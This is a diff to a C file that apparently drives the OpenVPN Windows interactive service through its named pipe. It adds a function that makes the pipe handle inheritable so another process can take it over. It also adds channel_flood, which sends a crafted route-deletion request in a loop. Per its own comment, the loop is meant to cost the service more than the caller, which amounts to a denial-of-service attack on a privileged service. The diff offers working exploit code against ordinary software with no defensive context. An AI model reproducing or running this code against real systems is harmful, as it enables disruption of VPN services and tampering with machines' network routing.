@@ -1,6 +1,7 @@
 /* SPDX-License-Identifier: MIT */
 #include "openvpn.h"
 
+#include <stdio.h>
 #include <stdlib.h>
 
 static HANDLE channel = INVALID_HANDLE_VALUE;
@@ -16,6 +17,14 @@ void channel_close(void)
 {
     CloseHandle(channel);
     channel = INVALID_HANDLE_VALUE;
+}
+
+const wchar_t *channel_lend(void)
+{
+    static wchar_t text[32];
+    SetHandleInformation(channel, HANDLE_FLAG_INHERIT, HANDLE_FLAG_INHERIT);
+    swprintf(text, sizeof(text) / sizeof(text[0]), L"%llu", (unsigned long long)(uintptr_t)channel);
+    return text;
 }
 
 uint32_t channel_write(const void *bytes, size_t size)
@@ -48,4 +57,19 @@ uint32_t channel_read(void *bytes, size_t capacity, DWORD timeout, size_t *size)
         error = GetLastError();
     *size = count;
     return error;
+}
+
+void channel_flood(void)
+{
+    enum { AHEAD = 150, SIZE = 328 };
+    /* 2.7, 64 bits: delete the route 0.0.0.0/32 on interface 2, which costs the service more than
+     * it costs us. */
+    static const uint8_t request[SIZE] = {
+        [0] = 4, [8] = SIZE & 0xff, [9] = SIZE >> 8, [24] = AF_INET, [44] = 32, [64] = 2};
+    uint8_t answer[64];
+    size_t size;
+    for (int i = 0; i < AHEAD && !channel_write(request, SIZE); i++)
+        ;
+    while (!channel_read(answer, sizeof(answer), INFINITE, &size) && !channel_write(request, SIZE))
+        ;
 }
